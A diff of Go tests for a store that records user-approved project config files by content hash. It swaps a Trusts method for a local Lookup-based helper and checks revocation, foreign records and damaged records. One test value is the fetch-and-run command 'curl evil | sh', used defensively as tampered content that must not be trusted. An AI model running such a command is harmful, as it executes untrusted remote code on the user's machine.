@@ -22,7 +22,7 @@ func TestAllowLookupRevoke(t *testing.T) {
 	}
 	const file = ".sudocode/agent.json"
 	content := []byte(`{"setup": "npm ci"}`)
-	if ok, err := s.Trusts(project, file, content); ok || err != nil {
+	if ok, err := trusts(s, project, file, content); ok || err != nil {
 		t.Fatalf("trusted before Allow: %v %v", ok, err)
 	}
 	r, err := s.Allow(link, file, content)
@@ -32,13 +32,13 @@ func TestAllowLookupRevoke(t *testing.T) {
 	if canon, _ := Canonical(project); r.Project != canon || r.SHA256 != Digest(content) {
 		t.Errorf("record %+v", r)
 	}
-	if ok, err := s.Trusts(project, file, content); !ok || err != nil {
+	if ok, err := trusts(s, project, file, content); !ok || err != nil {
 		t.Errorf("not trusted after Allow: %v %v", ok, err)
 	}
-	if ok, _ := s.Trusts(project, file, []byte(`{"setup": "curl evil | sh"}`)); ok {
+	if ok, _ := trusts(s, project, file, []byte(`{"setup": "curl evil | sh"}`)); ok {
 		t.Error("other bytes are trusted")
 	}
-	if ok, _ := s.Trusts(t.TempDir(), file, content); ok {
+	if ok, _ := trusts(s, t.TempDir(), file, content); ok {
 		t.Error("the same bytes in another project are trusted")
 	}
 	ents, _ := os.ReadDir(s.dir)
@@ -51,7 +51,7 @@ func TestAllowLookupRevoke(t *testing.T) {
 	if ok, err := s.Revoke(project, file); !ok || err != nil {
 		t.Fatalf("revoke: %v %v", ok, err)
 	}
-	if ok, _ := s.Trusts(project, file, content); ok {
+	if ok, _ := trusts(s, project, file, content); ok {
 		t.Error("trusted after Revoke")
 	}
 	if ok, err := s.Revoke(project, file); ok || err != nil {
@@ -73,11 +73,18 @@ func TestForeignRecordTrustsNothing(t *testing.T) {
 	cb, _ := Canonical(b)
 	rec, _ := os.ReadFile(s.recordPath(cb, "f"))
 	os.WriteFile(s.recordPath(ca, "f"), rec, 0o600) // b's record under a's name
-	if ok, _ := s.Trusts(a, "f", content); ok {
+	if ok, _ := trusts(s, a, "f", content); ok {
 		t.Error("a record of another project trusts this one")
 	}
 	os.WriteFile(s.recordPath(cb, "f"), []byte("{"), 0o600)
-	if ok, _ := s.Trusts(b, "f", content); ok {
+	if ok, _ := trusts(s, b, "f", content); ok {
 		t.Error("a damaged record trusts")
 	}
+}
+
+// trusts reports whether content is what the user trusted as project's
+// file.
+func trusts(s Store, project, file string, content []byte) (bool, error) {
+	r, ok, err := s.Lookup(project, file)
+	return ok && r.SHA256 == Digest(content), err
 }
